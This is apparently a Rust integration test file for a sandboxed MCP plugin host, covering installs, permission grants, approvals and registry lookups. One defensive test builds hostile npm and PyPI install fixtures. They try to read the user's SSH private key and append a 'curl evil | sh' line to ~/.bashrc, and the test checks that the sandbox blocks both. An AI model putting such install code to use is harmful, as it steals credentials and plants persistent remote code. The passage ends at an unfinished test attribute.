//! From a package name to a sandboxed tool: `plughost add` of real npm and
//! PyPI servers from a clean HOME ends in a callable tool with no hand edit;
//! a second add is refused; `update` to a version whose tools changed
//! withholds them. And the small things around MCP plugins: a tool of an
//! unapproved server, a deleted server command, a missing variable.
#![cfg(feature = "mcp-server")]

use crate::util;

use std::process::{Command, Output};

use serde_json::{Value, json};
use util::registry::{self, Registry};
use util::{Sandbox, stderr, stdout};

/// `plughost` in `sandbox` with a HOME of its own (empty: no npm cache, no
/// configuration), so a test starts where a new user does.
fn cmd(sandbox: &Sandbox, args: &[&str]) -> Command {
    let home = sandbox.root.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let mut c = sandbox.cmd();
    c.env("HOME", &home)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_STATE_HOME")
        .env_remove("npm_config_cache")
        .args(args);
    c
}

fn run(sandbox: &Sandbox, args: &[&str]) -> Output {
    util::run(cmd(sandbox, args))
}

fn npm_here() -> bool {
    let found = Command::new("npm")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    util::prerequisite("npm (with node)", found)
}

fn call(sandbox: &Sandbox, tool: &str, input: Value) -> Output {
    run(sandbox, &["call", tool, &input.to_string()])
}

#[test]
fn an_npm_server_added_by_name_answers_in_the_sandbox() {
    if !npm_here() {
        return;
    }
    let sandbox = Sandbox::new();
    let out = run(
        &sandbox,
        &[
            "add",
            "npm:@modelcontextprotocol/server-memory@2026.8.31",
            "--yes",
        ],
    );
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    let said = stdout(&out);
    assert!(
        said.contains("its server lists 9 tools (in the sandbox)"),
        "{said}"
    );
    assert!(said.contains("approved memory"), "{said}");
    // Its graph file, kept beside its code by default, goes to its data
    // folder, and add says so.
    assert!(
        said.contains("sets MEMORY_FILE_PATH=$PLUGHOST_DATA_DIR/memory.jsonl (in server.sh: its code keeps memory.jsonl beside itself"),
        "{said}"
    );

    let manifest: Value = serde_json::from_slice(
        &std::fs::read(sandbox.plugins().join("memory/plugin.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(
        manifest["source"],
        "npm:@modelcontextprotocol/server-memory@2026.8.31"
    );
    assert_eq!(manifest["version"], "2026.8.31");
    // No network, no writing: the least it needs to start.
    let grants = manifest["permissions"].as_array().unwrap();
    assert!(
        grants
            .iter()
            .all(|g| g.as_str().unwrap().starts_with("filesystem:read:")),
        "{grants:?}"
    );

    let out = call(&sandbox, "memory_read_graph", json!({}));
    assert!(out.status.success(), "{}", stderr(&out));
    let graph: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(graph, json!({"entities": [], "relations": []}));
    // It keeps what it is told, in its data folder.
    let out = call(
        &sandbox,
        "memory_create_entities",
        json!({"entities": [{"name": "a", "entityType": "t", "observations": ["kept"]}]}),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let kept = sandbox.state().join("data/memory/memory.jsonl");
    assert!(
        std::fs::read_to_string(&kept).unwrap().contains("kept"),
        "{}",
        kept.display()
    );
    let out = call(&sandbox, "memory_read_graph", json!({}));
    assert!(stdout(&out).contains("kept"), "{}", stdout(&out));

    // The same package again is refused in a sentence that says what to do.
    let out = run(
        &sandbox,
        &["add", "npm:@modelcontextprotocol/server-memory", "--yes"],
    );
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("is added already, as plugin \"memory\"; plughost update memory"),
        "{}",
        stderr(&out)
    );
    let out = run(&sandbox, &["validate"]);
    assert!(
        stdout(&out).contains("memory 2026.8.31 (9 tools)"),
        "{}",
        stdout(&out)
    );
}

/// The most-used MCP server needs a folder: `add PACKAGE FOLDER` passes it as
/// the server's argument, grants it (reading, the least, with `--yes`; writing
/// when `--grant` says so), and the server's roots are that folder, from the
/// command line as from any client.
#[test]
fn a_server_given_a_folder_works_in_it_and_only_there() {
    if !npm_here() {
        return;
    }
    let sandbox = Sandbox::new();
    let home = sandbox.root.path().join("home");
    let notes = home.join("notes");
    let drafts = home.join("drafts");
    std::fs::create_dir_all(&notes).unwrap();
    std::fs::create_dir_all(&drafts).unwrap();
    std::fs::write(notes.join("a.txt"), "from the notes\n").unwrap();
    std::fs::write(home.join("secret.txt"), "not granted\n").unwrap();
    const PACKAGE: &str = "npm:@modelcontextprotocol/server-filesystem@2026.8.31";
    let out = run(&sandbox, &["add", PACKAGE, "~/notes", "--yes"]);
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    let said = stdout(&out);
    let read_grant = format!("filesystem:read:{}", notes.display());
    assert!(
        said.contains(&format!("granted {read_grant} (named by its arguments)")),
        "{said}"
    );
    let manifest: Value = serde_json::from_slice(
        &std::fs::read(sandbox.plugins().join("filesystem/plugin.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(manifest["args"], json!([notes.display().to_string()]));
    assert!(
        manifest["permissions"]
            .as_array()
            .unwrap()
            .contains(&json!(read_grant)),
        "{manifest}"
    );

    let out = call(&sandbox, "filesystem_list_allowed_directories", json!({}));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&notes.display().to_string()),
        "{}",
        stdout(&out)
    );
    let path = notes.join("a.txt").display().to_string();
    let out = call(&sandbox, "filesystem_read_text_file", json!({"path": path}));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains("from the notes"), "{}", stdout(&out));
    // Outside its folder: refused by the server, and by the sandbox below it.
    let outside = home.join("secret.txt").display().to_string();
    let out = call(
        &sandbox,
        "filesystem_read_text_file",
        json!({"path": outside}),
    );
    assert!(!stdout(&out).contains("not granted"), "{}", stdout(&out));
    // Reading only: a write is refused.
    let written = notes.join("b.txt");
    let out = call(
        &sandbox,
        "filesystem_write_file",
        json!({"path": written.display().to_string(), "content": "x"}),
    );
    assert!(!out.status.success(), "{}", stdout(&out));
    assert!(!written.exists());

    // A second copy told to write there: `--grant` covers the folder.
    let out = run(
        &sandbox,
        &[
            "add",
            PACKAGE,
            &drafts.display().to_string(),
            "--name",
            "drafts",
            "--grant",
            "filesystem:write:~/drafts",
            "--yes",
        ],
    );
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    assert!(
        !stdout(&out).contains("(named by its arguments)"),
        "--grant covers it: {}",
        stdout(&out)
    );
    let written = drafts.join("b.txt");
    let out = call(
        &sandbox,
        "drafts_write_file",
        json!({"path": written.display().to_string(), "content": "drafted"}),
    );
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    assert_eq!(std::fs::read_to_string(&written).unwrap(), "drafted");

    // A path whose folder does not exist is refused before anything is installed.
    let out = run(
        &sandbox,
        &["add", PACKAGE, "--name", "gone", "~/nope/x", "--yes"],
    );
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("does not exist") && stderr(&out).contains("create the folder first"),
        "{}",
        stderr(&out)
    );
    assert!(!sandbox.plugins().join("gone").exists());
}

#[test]
fn a_pypi_server_added_by_name_answers_in_the_sandbox() {
    let sandbox = Sandbox::new();
    let out = run(
        &sandbox,
        &["add", "pypi:mcp-server-time==2026.10.19", "--yes"],
    );
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("approved time"), "{}", stdout(&out));
    let out = call(
        &sandbox,
        "time_get_current_time",
        json!({"timezone": "Europe/Paris"}),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let now: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(now["timezone"], "Europe/Paris");
    assert!(
        sandbox.plugins().join("time/lib").is_dir(),
        "installed into the plugin folder"
    );
}

#[test]
fn update_to_a_version_whose_tools_changed_withholds_them() {
    if !npm_here() {
        return;
    }
    let sandbox = Sandbox::new();
    let out = run(
        &sandbox,
        &[
            "add",
            "npm:@modelcontextprotocol/server-memory@2025.4.25",
            "--yes",
        ],
    );
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    // Every tool's input schema changed in 2025.11.25.
    let out = run(&sandbox, &["update", "memory", "--version", "2025.11.25"]);
    assert!(out.status.success(), "{}\n{}", stdout(&out), stderr(&out));
    let said = stdout(&out);
    assert!(
        said.contains(
            "updated memory: @modelcontextprotocol/server-memory 2025.4.25 -> 2025.11.25"
        ),
        "{said}"
    );
    assert!(
        said.contains("withheld until approved again (9 changed)"),
        "{said}"
    );
    assert!(said.contains("approve memory"), "{said}");
    let out = call(&sandbox, "memory_read_graph", json!({}));
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("is withheld: its input schema changed since the approval"),
        "{}",
        stderr(&out)
    );
    // Approved again, it answers; the same version again changes nothing.
    assert!(
        run(&sandbox, &["approve", "memory", "--yes"])
            .status
            .success()
    );
    assert!(
        call(&sandbox, "memory_read_graph", json!({}))
            .status
            .success()
    );
    let out = run(&sandbox, &["update", "memory", "--version", "2025.11.25"]);
    assert!(
        stdout(&out).contains("memory is at 2025.11.25 already"),
        "{}",
        stdout(&out)
    );
    let out = run(&sandbox, &["update", "nothing-here"]);
    assert!(!out.status.success());
}

/// A plugin folder wrapping `program` as an MCP server, not approved.
fn wrapper(sandbox: &Sandbox, name: &str, program: &std::path::Path) {
    let out = run(
        sandbox,
        &["new", name, "--mcp", "--", program.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_tool_of_an_unapproved_server_says_to_approve_it() {
    let sandbox = Sandbox::new();
    wrapper(&sandbox, "files", std::path::Path::new("/bin/cat"));
    let out = call(&sandbox, "files_read", json!({}));
    assert_eq!(out.status.code(), Some(2));
    let e = stderr(&out);
    assert!(
        e.contains("not_allowed")
            && e.contains("plugin \"files\" is an MCP server that is not approved yet")
            && e.contains("approve files"),
        "{e}"
    );
    // A name no server could offer stays not_found.
    let out = call(&sandbox, "nothing", json!({}));
    assert!(stderr(&out).contains("not_found"), "{}", stderr(&out));
}

#[test]
fn doctor_names_a_server_command_that_is_gone() {
    let sandbox = Sandbox::new();
    let program = sandbox.root.path().join("opt/server/bin/serve");
    std::fs::create_dir_all(program.parent().unwrap()).unwrap();
    util::write_executable(&program, "#!/bin/sh\nexit 0\n");
    wrapper(&sandbox, "gone", &program);
    let program = program.canonicalize().unwrap();
    let out = run(&sandbox, &["doctor"]);
    assert!(!stdout(&out).contains("does not exist any more"));
    std::fs::remove_file(&program).unwrap();
    let out = run(&sandbox, &["doctor"]);
    let text = stdout(&out);
    assert!(
        text.contains(&format!(
            "gone: its entrypoint server.sh starts {}, which does not exist any more; reinstall it (plughost update gone for an added package) or fix the script",
            program.display()
        )),
        "{text}"
    );
}

#[test]
fn a_server_started_without_a_listed_variable_is_warned_about() {
    let Some(pydeps) = util::python_mcp_sdk() else {
        return;
    };
    let sandbox = Sandbox::new();
    let dir = sandbox.plugins().join("pyserver");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(
        util::repo().join("tests/fixtures/mcp/server.py"),
        dir.join("server.py"),
    )
    .unwrap();
    util::write_executable(
        &dir.join("main.sh"),
        &format!(
            "#!/bin/sh\nPYTHONPATH='{}' exec '{}' -B \"$(dirname \"$0\")/server.py\"\n",
            pydeps.display(),
            util::real_python3().display()
        ),
    );
    std::fs::write(
        dir.join("plugin.json"),
        json!({"name": "pyserver", "version": "1.0.0", "description": "The test MCP server.",
               "entrypoint": "main.sh", "protocol": "mcp", "tool_prefix": "py_",
               "env": ["PLUGHOST_TEST_API_KEY"],
               "permissions": [format!("filesystem:read:{}", pydeps.display())]})
        .to_string(),
    )
    .unwrap();
    let mut c = cmd(&sandbox, &["approve", "pyserver", "--yes"]);
    c.env_remove("PLUGHOST_TEST_API_KEY");
    let out = util::run(c);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "note: the MCP server of plugin \"pyserver\" started without the variable PLUGHOST_TEST_API_KEY"
        ),
        "{}",
        stderr(&out)
    );
    let mut c = cmd(&sandbox, &["call", "py_echo", r#"{"text":"x"}"#]);
    c.env("PLUGHOST_TEST_API_KEY", "set");
    let out = util::run(c);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("started without"),
        "{}",
        stderr(&out)
    );
}

/// What hostile install code tries, in Node and in Python: read the user's
/// SSH key (saying whether it could), then append to `~/.bashrc` (which
/// fails the install when refused). `home` is the real home, named in full:
/// the installer's own HOME is elsewhere.
fn hostile_code(home: &std::path::Path) -> (String, String) {
    let key = home.join(".ssh/id_ed25519");
    let rc = home.join(".bashrc");
    let node = format!(
        "const fs = require('fs');\n\
         try {{ fs.readFileSync({key:?}); console.error('ssh: readable'); }}\n\
         catch (e) {{ console.error('ssh: refused (' + e.code + ')'); }}\n\
         fs.appendFileSync({rc:?}, 'curl evil | sh\\n');\n",
        key = key.display().to_string(),
        rc = rc.display().to_string()
    );
    let python = format!(
        "import sys\n\
         def attack():\n    \
             try:\n        open({key:?}).read(); print('ssh: readable', file=sys.stderr)\n    \
             except OSError as e:\n        print('ssh: refused (%s)' % e.strerror, file=sys.stderr)\n    \
             open({rc:?}, 'a').write('curl evil | sh\\n')\n\
         def get_requires_for_build_wheel(config_settings=None):\n    attack(); return []\n\
         def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    attack(); raise SystemExit(1)\n\
         def build_sdist(sdist_directory, config_settings=None):\n    raise SystemExit(1)\n",
        key = key.display().to_string(),
        rc = rc.display().to_string()
    );
    (node, python)
}

/// Install code runs in the sandbox: an npm package whose install script,
/// and a PyPI source distribution whose build, try to read `~/.ssh` and
/// append to `~/.bashrc` are both refused; the install fails and says what
/// its code met; nothing is written and no plugin is left.
#[test]
fn install_code_runs_in_the_sandbox() {
    let sandbox = Sandbox::new();
    let home = sandbox.root.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let (node, python) = hostile_code(&home);

    let served = sandbox.root.path().join("registry");
    let build = sandbox.root.path().join("build");
    let pkg = build.join("package");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::create_dir_all(served.join("npm")).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        json!({"name": "hostile-pkg", "version": "1.0.0", "bin": {"hostile-pkg": "index.js"},
               "scripts": {"preinstall": "node steal.js"}})
        .to_string(),
    )
    .unwrap();
    std::fs::write(pkg.join("steal.js"), node).unwrap();
    std::fs::write(pkg.join("index.js"), "").unwrap();
    let sdist = build.join("hostile_sdist-1.0.0");
    std::fs::create_dir_all(&sdist).unwrap();
    std::fs::create_dir_all(served.join("pypi")).unwrap();
    std::fs::write(
        sdist.join("pyproject.toml"),
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n[project]\nname = \"hostile-sdist\"\nversion = \"1.0.0\"\n",
    )
    .unwrap();
    std::fs::write(
        sdist.join("PKG-INFO"),
        "Metadata-Version: 2.1\nName: hostile-sdist\nVersion: 1.0.0\n",
    )
    .unwrap();
    std::fs::write(sdist.join("backend.py"), python).unwrap();
    for (out, dir) in [
        (served.join("npm/hostile-pkg-1.0.0.tgz"), "package"),
        (
            served.join("pypi/hostile_sdist-1.0.0.tar.gz"),
            "hostile_sdist-1.0.0",
        ),
    ] {
        let tar = Command::new("tar")
            .arg("czf")
            .arg(&out)
            .arg("-C")
            .arg(&build)
            .arg(dir)
            .status()
            .unwrap();
        assert!(tar.success());
    }
    let registry = Registry::start(&served);
    let url = format!("http://127.0.0.1:{}", registry.port);

    let mut tries = vec![];
    if npm_here() {
        let mut c = cmd(&sandbox, &["add", "npm:hostile-pkg", "--yes"]);
        c.env("npm_config_registry", format!("{url}/"));
        tries.push(("npm", c, "EACCES"));
    }
    let mut c = cmd(&sandbox, &["add", "pypi:hostile-sdist", "--yes"]);
    c.env("PIP_INDEX_URL", format!("{url}/simple/"))
        .env("PIP_FIND_LINKS", "")
        .env("PIP_NO_CACHE_DIR", "1");
    tries.push(("pypi", c, "Permission denied"));
    for (kind, c, refusal) in tries {
        let out = util::run(c);
        let said = format!("{}\n{}", stdout(&out), stderr(&out));
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            "# mine\n",
            "{kind}: {said}"
        );
        assert!(!out.status.success(), "{kind}: {said}");
        assert!(said.contains("in the sandbox failed"), "{kind}: {said}");
        assert!(said.contains("ssh: refused"), "{kind}: {said}");
        assert!(!said.contains("ssh: readable"), "{kind}: {said}");
        assert!(
            said.contains(".bashrc") && said.contains(refusal),
            "{kind}: {said}"
        );
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            "# mine\n",
            "{kind}"
        );
        let left: Vec<_> = std::fs::read_dir(sandbox.plugins())
            .map(|d| d.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(left.is_empty(), "{kind}: {left:?}");
    }
}

/// The MCP Registry, served on loopback in the official API's shape:
/// `search` finds a server by name; `add NAME ARG` installs its npm package
/// at the exact version server.json names, passes the argument (a folder,
/// granted) and the named argument's default, asks the secret variable (on
/// stdin here) into the secret store and sets the plain one in `server.sh`;
/// the server's tool then sees all of it. A server published only as an OCI
/// image, or only remote, is refused in one sentence.
#[test]
fn a_server_added_from_the_registry_by_name() {
    if !npm_here() {
        return;
    }
    const TOKEN: &str = "registry-secret-42";
    let sandbox = Sandbox::new();
    let home = sandbox.root.path().join("home");
    let notes = home.join("notes");
    std::fs::create_dir_all(&notes).unwrap();
    std::fs::write(notes.join("a.md"), "").unwrap();
    std::fs::write(notes.join("b.md"), "").unwrap();

    let served = registry::folder(sandbox.root.path());
    let build = sandbox.root.path().join("build");
    registry::publish_notes(&served, &build, "1.0.0");
    // A remote server on loopback, where nothing listens: it is added,
    // approved, and then cannot be reached.
    let remote_port = util::free_port();
    let remote_url = format!("http://127.0.0.1:{remote_port}/mcp");
    let others = [
        json!({"name": "io.github.example/notes-image", "description": "An image.", "version": "1.0.0",
               "packages": [{"registryType": "oci", "identifier": "ghcr.io/example/notes", "version": "1.0.0",
                             "transport": {"type": "stdio"}}]}),
        json!({"name": "io.github.example/notes-remote", "description": "Remote.", "version": "1.0.0",
               "remotes": [{"type": "streamable-http", "url": remote_url}]}),
    ];
    for (i, s) in others.iter().enumerate() {
        registry::write_server(&served, &format!("other-{i}"), s);
    }
    let registry = Registry::start(&served);
    let url = registry.url();
    let with_registry = |args: &[&str], input: &str| {
        let mut c = cmd(&sandbox, args);
        c.env("PLUGHOST_REGISTRY", &url)
            .env("npm_config_registry", format!("{url}/"))
            .env_remove("NOTES_TOKEN");
        util::run_input(c, input)
    };

    let out = with_registry(&["search", "notes"], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let said = stdout(&out);
    assert!(
        said.contains("io.github.example/notes  1.0.0  [npm]"),
        "{said}"
    );
    assert!(
        said.contains("io.github.example/notes-image  1.0.0  [oci]  (plughost cannot run it yet)"),
        "{said}"
    );

    let out = with_registry(
        &["add", "io.github.example/notes", "~/notes", "--yes"],
        &format!("{TOKEN}\n"),
    );
    let said = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{said}");
    assert!(
        said.contains("io.github.example/notes is npm:notes-server@1.0.0"),
        "{said}"
    );
    assert!(said.contains("gets the secret NOTES_TOKEN"), "{said}");
    assert!(
        said.contains("sets NOTES_REGION=eu (in server.sh)"),
        "{said}"
    );
    assert!(!said.contains(TOKEN), "{said}");
    // The secret is nowhere in the plugin folder.
    let dir = sandbox.plugins().join("notes");
    let grep = Command::new("grep")
        .args(["-rl", TOKEN])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(
        grep.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&grep.stdout)
    );
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(dir.join("plugin.json")).unwrap()).unwrap();
    assert_eq!(manifest["env"], json!(["NOTES_TOKEN"]));
    assert_eq!(
        manifest["args"],
        json!([notes.display().to_string(), "--greeting=hello"])
    );

    let out = run(&sandbox, &["call", "notes_list", "{}"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out).trim(),
        format!(
            "hello: a.md,b.md; token of {} characters; region eu",
            TOKEN.len()
        )
    );

    // The registry publishes 1.1.0: `update` follows it, keeping the
    // arguments, the secret and the variable set in server.sh.
    registry::publish_notes(&served, &build, "1.1.0");
    let out = with_registry(&["update", "notes"], "");
    let said = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{said}");
    assert!(
        said.contains(&format!(
            "io.github.example/notes 1.1.0 is npm:notes-server@1.1.0 (from {url})"
        )),
        "{said}"
    );
    assert!(
        said.contains("updated notes: notes-server 1.0.0 -> 1.1.0"),
        "{said}"
    );
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(dir.join("plugin.json")).unwrap()).unwrap();
    assert_eq!(manifest["source"], "npm:notes-server@1.1.0");
    assert_eq!(
        manifest["registry"],
        json!({"url": url, "name": "io.github.example/notes"})
    );
    let installed: Value = serde_json::from_slice(
        &std::fs::read(dir.join("node_modules/notes-server/package.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(installed["version"], "1.1.0");
    let out = run(&sandbox, &["call", "notes_list", "{}"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("token of 18 characters; region eu"),
        "{}",
        stdout(&out)
    );
    // A version the registry does not have is named.
    let out = with_registry(&["update", "notes", "--version", "9.9.9"], "");
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(&format!(
            "the registry {url} has no version 9.9.9 of io.github.example/notes"
        )),
        "{}",
        stderr(&out)
    );

    let remote_said = format!("cannot reach the remote MCP server 127.0.0.1:{remote_port}");
    for (name, sentence) in [
        (
            "io.github.example/notes-image",
            "is published as oci only; plughost installs npm and PyPI packages and cannot run it yet",
        ),
        ("io.github.example/notes-remote", remote_said.as_str()),
        (
            "io.github.example/nope",
            "has no server named io.github.example/nope",
        ),
    ] {
        let out = with_registry(&["add", name, "--yes"], "");
        assert!(!out.status.success(), "{name}");
        assert!(stderr(&out).contains(sentence), "{name}: {}", stderr(&out));
    }
    // The remote one stays, named as the registry names it, to approve
    // again once its server is up.
    let manifest: Value = serde_json::from_slice(
        &std::fs::read(sandbox.plugins().join("notes-remote/plugin.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(manifest["remote"], json!(remote_url));
}

/// `add PACKAGE ARGS… --yes`, then one call of `tool` with `input` whose
/// output must hold `expect`: a server people install, pinned, working
/// with no hand edit.
fn added_and_called(sandbox: &Sandbox, add: &[&str], tool: &str, input: Value, expect: &str) {
    let mut args = vec!["add"];
    args.extend(add);
    let out = run(sandbox, &args);
    assert!(
        out.status.success(),
        "{add:?}: {}\n{}",
        stdout(&out),
        stderr(&out)
    );
    let out = call(sandbox, tool, input);
    let said = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{tool}: {said}");
    assert!(said.contains(expect), "{tool}: {said}");
}

#[test]
fn servers_people_install_work_with_no_hand_edit() {
    if !npm_here() {
        return;
    }
    let sandbox = Sandbox::new();
    added_and_called(
        &sandbox,
        &[
            "npm:@modelcontextprotocol/server-everything@2026.8.31",
            "--yes",
        ],
        "everything_echo",
        json!({"message": "through plughost"}),
        "Echo: through plughost",
    );
    added_and_called(
        &sandbox,
        &[
            "npm:@modelcontextprotocol/server-sequential-thinking@2026.8.31",
            "--yes",
        ],
        "sequential_thinking_sequentialthinking",
        json!({"thought": "one", "nextThoughtNeeded": false, "thoughtNumber": 1, "totalThoughts": 1}),
        "\"thoughtHistoryLength\": 1",
    );
    // A repository argument (after --, as it starts with -).
    let repo = sandbox.root.path().join("home/repo");
    std::fs::create_dir_all(&repo).unwrap();
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args(["-c", "user.email=a@example.com", "-c", "user.name=A"])
            .args(args)
            .current_dir(&repo)
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["commit", "-q", "--allow-empty", "-m", "the first commit"]);
    let repo_text = repo.display().to_string();
    added_and_called(
        &sandbox,
        &[
            "pypi:mcp-server-git==2026.10.19",
            "--yes",
            "--",
            "--repository",
            &repo_text,
        ],
        "git_log",
        json!({"repo_path": repo_text}),
        "the first commit",
    );
    // A database file argument, in a folder the server may write. Its last
    // release does not start with today's `mcp` 2.x: add installs it again
    // with the dependencies of its release day, and says so.
    let db_dir = sandbox.root.path().join("home/db");
    std::fs::create_dir_all(&db_dir).unwrap();
    let db = db_dir.join("notes.db");
    let write = format!("filesystem:write:{}", db_dir.display());
    let out = run(
        &sandbox,
        &[
            "add",
            "pypi:mcp-server-sqlite==2025.4.25",
            "--grant",
            &write,
            "--yes",
            "--",
            "--db-path",
            &db.display().to_string(),
        ],
    );
    let said = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{said}");
    assert!(
        said.contains(
            "installed mcp-server-sqlite 2025.4.25 with its dependencies as of 2025-04-25"
        ),
        "{said}"
    );
    let out = call(
        &sandbox,
        "sqlite_write_query",
        json!({"query": "CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)"}),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let out = call(&sandbox, "sqlite_list_tables", json!({}));
    assert!(stdout(&out).contains("'name': 'notes'"), "{}", stdout(&out));
    assert!(db.is_file());
}

/// A page served on loopback (`python -m http.server`) from a folder of
/// the sandbox's; the server ends on drop, a failed test's too.
struct Page {
    port: u16,
    server: std::process::Child,
}

impl Page {
    fn serve(sandbox: &Sandbox, html: &str) -> Page {
        let dir = sandbox.root.path().join("page");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("index.html"), html).unwrap();
        let port = util::free_port();
        let server = Command::new(util::real_python3())
            .args([
                "-m",
                "http.server",
                &port.to_string(),
                "--bind",
                "127.0.0.1",
            ])
            .current_dir(&dir)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        Page { port, server }
    }
}

impl Drop for Page {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

/// mcp-server-fetch reads a loopback page through the egress proxy, with a
/// host grant; its HTML reader's Node part (ReadabiliPy's, which it would
/// otherwise `npm install` into its own read-only folder on first use) is
/// installed by `add`, in the sandbox.
#[test]
fn the_fetch_server_reads_a_page_it_was_granted() {
    if !npm_here() {
        return;
    }
    let sandbox = Sandbox::new();
    let page = Page::serve(
        &sandbox,
        "<html><head><title>T</title></head><body><article><h1>A page on loopback</h1><p>The text a reader keeps, long enough to be an article.</p></article></body></html>",
    );
    let port = page.port;
    let grant = format!("network:127.0.0.1:{port}");
    let url = format!("http://127.0.0.1:{port}/index.html");
    added_and_called(
        &sandbox,
        &[
            "pypi:mcp-server-fetch==2026.10.24",
            "--grant",
            &grant,
            "--yes",
            "--",
            "--allow-private-ips",
        ],
        "fetch_fetch",
        json!({"url": url}),
        "The text a reader keeps",
    );
    drop(page);
    let js = sandbox
        .plugins()
        .join("fetch/lib/readabilipy/javascript/node_modules");
    assert!(js.is_dir(), "the reader's Node part was not installed");
}

/// Playwright's MCP server drives the system's Chromium (Debian's) in the
/// sandbox against a loopback page. A browser takes the `network` grant:
/// Playwright and Chromium talk over unix sockets of their own, which no
/// narrower grant allows (with `network:HOST` the refusal is named, with
/// the grant). It needs the rest of what a long-lived server gets: a
/// `/proc` of its own PID namespace, where each of Chromium's processes
/// reads its own entries; its data folder as its root, where its snapshots
/// go; and its caches (the browser profile) in that folder too.
#[test]
fn playwright_drives_the_system_chromium_against_a_loopback_page() {
    if !npm_here()
        || !util::prerequisite(
            "Debian's chromium (/usr/bin/chromium), which Playwright's server drives",
            std::path::Path::new("/usr/bin/chromium").is_file(),
        )
    {
        return;
    }
    let sandbox = Sandbox::new();
    let page = Page::serve(
        &sandbox,
        "<html><head><title>A loopback page</title></head><body><h1>Driven through plughost</h1></body></html>",
    );
    let port = page.port;
    let url = format!("http://127.0.0.1:{port}/");
    let browser = [
        "--",
        "--headless",
        "--browser",
        "chromium",
        "--executable-path",
        "/usr/bin/chromium",
    ];
    let mut add = vec!["npm:@playwright/mcp@0.0.83", "--grant", "network", "--yes"];
    add.extend(browser);
    added_and_called(
        &sandbox,
        &add,
        "playwright_browser_navigate",
        json!({"url": url}),
        "Page Title: A loopback page",
    );
    // Its snapshot, written where it works: its data folder.
    let out = sandbox.state().join("data/playwright/.playwright-mcp");
    let snapshots: Vec<String> = std::fs::read_dir(&out)
        .unwrap_or_else(|e| panic!("{}: {e}", out.display()))
        .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap_or_default())
        .collect();
    assert!(
        snapshots
            .iter()
            .any(|s| s.contains("Driven through plughost")),
        "{snapshots:?}"
    );
    // Granted only the page's host: the unix sockets are refused, and
    // the refusal is named with the grant that allows them.
    let host = format!("network:127.0.0.1:{port}");
    let mut add = vec![
        "add",
        "npm:@playwright/mcp@0.0.83",
        "--name",
        "narrow",
        "--grant",
        &host,
        "--yes",
    ];
    add.extend(browser);
    let out = run(&sandbox, &add);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = call(&sandbox, "narrow_browser_navigate", json!({"url": url}));
    let said = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(
        said.contains(
            "permission error connecting to a unix socket, which its grants do not reach"
        ) && said.contains("grant \"network\""),
        "{said}"
    );
    drop(page);
}

/// Context7 needs its host: added with no grant, its tools are listed and
/// approved, and a call, which the server answers as a plain text failure
/// ("fetch failed"), names the host it tried and the grant that would allow
/// it, on the command line (a note) and over MCP (the result's
/// `_meta["plughost/denials"]`, the result itself as the server sent it).
#[tokio::test]
